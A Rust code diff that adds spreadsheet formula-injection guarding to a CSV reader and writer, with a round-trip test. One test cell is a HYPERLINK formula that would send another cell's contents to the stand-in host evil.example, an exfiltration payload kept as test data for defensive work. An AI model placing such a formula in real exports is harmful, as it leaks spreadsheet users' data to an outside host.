@@ -1,6 +1,11 @@
 //! CSV after RFC 4180, read incrementally (a file arrives in chunks of any size) and written
 //! for spreadsheet programs (UTF-8 with a byte-order mark, CRLF line ends).
 //!
+//! A cell a spreadsheet would run as a formula (CWE-1236: it starts with `=`, `+`, `-`, `@`,
+//! a tab or a carriage return, or their full-width forms) is written behind a `'`, which
+//! spreadsheets show as text; the reader takes that guard off again, so an exported file
+//! imports back as it was.
+//!
 //! Quotes, commas and line breaks are ASCII, and no byte of a multi-byte UTF-8 character is
 //! ASCII, so the reader works on bytes and decodes each finished field.
 
@@ -48,8 +53,13 @@ impl CsvReader {
 
     fn end_field(&mut self) {
         let bytes = std::mem::take(&mut self.field);
-        self.record
-            .push(String::from_utf8(bytes).map_err(|_| CsvError::NotUtf8));
+        let field = String::from_utf8(bytes)
+            .map(|f| match unguarded(&f) {
+                Some(formula) => formula.to_owned(),
+                None => f,
+            })
+            .map_err(|_| CsvError::NotUtf8);
+        self.record.push(field);
     }
 
     fn end_record(&mut self, out: &mut Vec<Result<Vec<String>, CsvError>>) {
@@ -129,13 +139,30 @@ impl CsvReader {
     }
 }
 
-/// Appends one record, quoting fields that need it.
+/// Characters that make a spreadsheet read a cell as a formula.
+const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
+
+fn starts_formula(text: &str) -> bool {
+    text.starts_with(FORMULA_STARTS)
+}
+
+/// The cell behind a formula guard, if `cell` is a guarded one.
+fn unguarded(cell: &str) -> Option<&str> {
+    cell.strip_prefix('\'').filter(|rest| starts_formula(rest))
+}
+
+/// Appends one record, quoting fields that need it and guarding formulas.
 pub fn write_record(out: &mut Vec<u8>, fields: &[impl AsRef<str>]) {
     for (i, field) in fields.iter().enumerate() {
         if i > 0 {
             out.push(b',');
         }
-        let field = field.as_ref();
+        let guarded;
+        let mut field = field.as_ref();
+        if starts_formula(field) {
+            guarded = format!("'{field}");
+            field = &guarded;
+        }
         if field.contains([',', '"', '\n', '\r']) {
             out.push(b'"');
             out.extend(field.replace('"', "\"\"").as_bytes());
@@ -190,6 +217,31 @@ mod tests {
     fn reports_bad_records() {
         assert_eq!(read_all(&[b"a,\xff\n"]), vec![Err(CsvError::NotUtf8)]);
         assert_eq!(read_all(&[b"\"open"]), vec![Err(CsvError::UnclosedQuote)]);
+    }
+
+    #[test]
+    fn formulas_are_written_as_text_and_read_back() {
+        let cells = [
+            "=HYPERLINK(\"http://evil.example/?x=\"&A2,\"open\")",
+            "+8613800138000",
+            "-1",
+            "@SUM(A1)",
+            "\tx",
+            "＝1+1",
+            "plain",
+            "'kept",
+        ];
+        let mut out = Vec::new();
+        write_record(&mut out, &cells);
+        let text = String::from_utf8(out.clone()).unwrap();
+        for line_start in ["'=HYPERLINK", ",'+86", ",'-1", ",'@SUM", "'\tx", ",'＝1"] {
+            assert!(text.contains(line_start), "{line_start} in {text}");
+        }
+        let read = read_all(&[&out]);
+        assert_eq!(
+            read,
+            vec![Ok(cells.iter().map(|c| c.to_string()).collect())]
+        );
     }
 
     #[test]
